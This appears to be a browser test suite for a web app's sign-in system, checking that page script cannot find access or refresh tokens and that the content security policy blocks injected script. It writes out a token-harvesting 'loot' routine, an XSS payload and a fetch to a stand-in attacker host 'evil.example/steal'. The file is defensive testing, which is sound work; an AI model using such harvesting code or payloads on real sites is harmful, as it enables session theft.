// What a script running in our page could find: no refresh token anywhere, and the access token neither in
// storage, nor in the store's state, nor in the document, nor on an object it can reach from the window.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { startGatehouse } from './gatehouse.mjs';
import { context, go, newPerson, register } from './person.mjs';
import { withBrowser } from './setting.mjs';

let browser;
let target;

withBrowser(startGatehouse, (given) => {
  ({ server: target, browser } = given);
});

/** Runs in the page: everything reachable that could hold a secret, as text. */
async function loot() {
  const found = {};
  const entries = (storage) => JSON.stringify(Object.entries(storage));
  found.localStorage = entries(window.localStorage);
  found.sessionStorage = entries(window.sessionStorage);
  found.cookie = document.cookie;
  found.history = JSON.stringify(window.history.state) + window.location.href;
  found.document = document.documentElement.outerHTML;
  found.inputs = [...document.querySelectorAll('input')].map((input) => input.value).join(' ');
  const databases = await window.indexedDB.databases();
  found.indexedDB = JSON.stringify(databases.map((database) => database.name));
  found.caches = JSON.stringify(await window.caches.keys());
  found.performance = JSON.stringify(performance.getEntries());
  // Every object to be reached from the window and from React's fibers, the store's state among them.
  const seen = new Set();
  const texts = new Set();
  const stack = [window];
  for (const node of document.querySelectorAll('*')) {
    for (const key of Object.keys(node)) if (key.startsWith('__react')) stack.push(node[key]);
  }
  const root = document.getElementById('root');
  for (const key of Object.keys(root)) stack.push(root[key]);
  let stores = 0;
  while (stack.length > 0 && seen.size < 400_000) {
    const value = stack.pop();
    if (typeof value === 'string') texts.add(value);
    if (value === null || (typeof value !== 'object' && typeof value !== 'function')) continue;
    if (seen.has(value)) continue;
    seen.add(value);
    try {
      if (typeof value.getState === 'function') {
        found.store = JSON.stringify(value.getState());
        stores += 1;
      }
    } catch {
      // A prototype of the browser's own, whose getters refuse to be read.
    }
    if (value instanceof Map || value instanceof Set)
      stack.push(...value.keys(), ...value.values());
    for (const key of Reflect.ownKeys(value)) {
      try {
        stack.push(value[key]);
      } catch {
        // A getter that refuses to be read gives nothing away.
      }
    }
  }
  found.reachable = [...texts].join('\n');
  return { found, stores, objects: seen.size };
}

test('a hostile script finds no token', async () => {
  const device = await context(browser);
  const page = await device.newPage();
  const tokens = new Set();
  const reading = [];
  async function note(response) {
    const { access_token: token } = await response.json();
    if (token) tokens.add(token);
  }
  device.on('response', (response) => {
    const { pathname } = new URL(response.url());
    const gives = /\/auth\/(?:register|login|refresh)$/.test(pathname) && response.ok();
    if (gives) reading.push(note(response));
  });
  const person = newPerson();
  await register(page, target.origin, person);
  await go(page, 'Sessions and devices');
  // What was answered to a page is gone once it is left.
  await Promise.all(reading);
  await page.reload();
  await page.getByText('You are signed in nowhere else.').waitFor();
  await go(page, 'Profile');
  await Promise.all(reading);
  const cookies = await device.cookies();
  const refresh = cookies.filter((cookie) => cookie.name === '__Host-refresh');
  assert.equal(refresh.length, 1);
  assert.ok(refresh[0].httpOnly && refresh[0].secure && refresh[0].sameSite === 'Strict');
  assert.equal(tokens.size, 2, 'a registration and a refresh were seen');

  const { found, stores, objects } = await page.evaluate(loot);
  assert.ok(stores > 0, 'the search did reach the store');
  assert.ok(objects > 5_000, `the search was thorough: ${objects} objects`);
  assert.ok(found.reachable.includes(person.name), 'the search did reach the data of the page');
  for (const [place, content] of Object.entries(found)) {
    assert.ok(!content.includes(refresh[0].value), `a refresh token in ${place}`);
    for (const token of tokens) assert.ok(!content.includes(token), `an access token in ${place}`);
  }
  await device.close();
});

test('the policy stops injected script and markup', async () => {
  const device = await context(browser);
  const page = await device.newPage();
  const answer = await page.goto(`${target.origin}/sign-in`);
  const policy = answer.headers()['content-security-policy'];
  assert.match(policy, /default-src 'none'/);
  assert.match(policy, /require-trusted-types-for 'script'/);
  assert.doesNotMatch(policy, /unsafe-inline|unsafe-eval/);
  await page.getByRole('heading', { name: 'Sign in' }).waitFor();
  const outcome = await page.evaluate(async () => {
    const refused = {};
    // The debugger may evaluate text where the page may not, as long as it is on the stack.
    await new Promise((resolve) => setTimeout(resolve, 0));
    const attempt = (name, action) => {
      try {
        action();
        refused[name] = false;
      } catch {
        refused[name] = true;
      }
    };
    attempt('innerHTML', () => {
      document.createElement('div').innerHTML = '<img src=x onerror="window.hit = 1">';
    });
    attempt('eval', () => {
      // biome-ignore lint/security/noGlobalEval: that it is refused is what is tested
      window.eval('window.hit = 2');
    });
    attempt('script text', () => {
      const script = document.createElement('script');
      script.textContent = 'window.hit = 3';
      document.body.append(script);
    });
    const script = document.createElementNS('http://www.w3.org/2000/svg', 'script');
    script.append('window.hit = 4');
    document.body.append(script);
    attempt('event handler', () => {
      document.createElement('img').setAttribute('onerror', 'window.hit = 5');
    });
    const image = document.createElement('img');
    image.src = 'https://evil.example/x.png';
    document.body.append(image);
    const sent = await fetch('https://evil.example/steal').then(
      () => true,
      () => false,
    );
    await new Promise((resolve) => setTimeout(resolve, 300));
    return { refused, hit: window.hit ?? null, sent };
  });
  assert.deepEqual(outcome, {
    refused: { innerHTML: true, eval: true, 'script text': true, 'event handler': true },
    hit: null,
    sent: false,
  });
  await device.close();
});
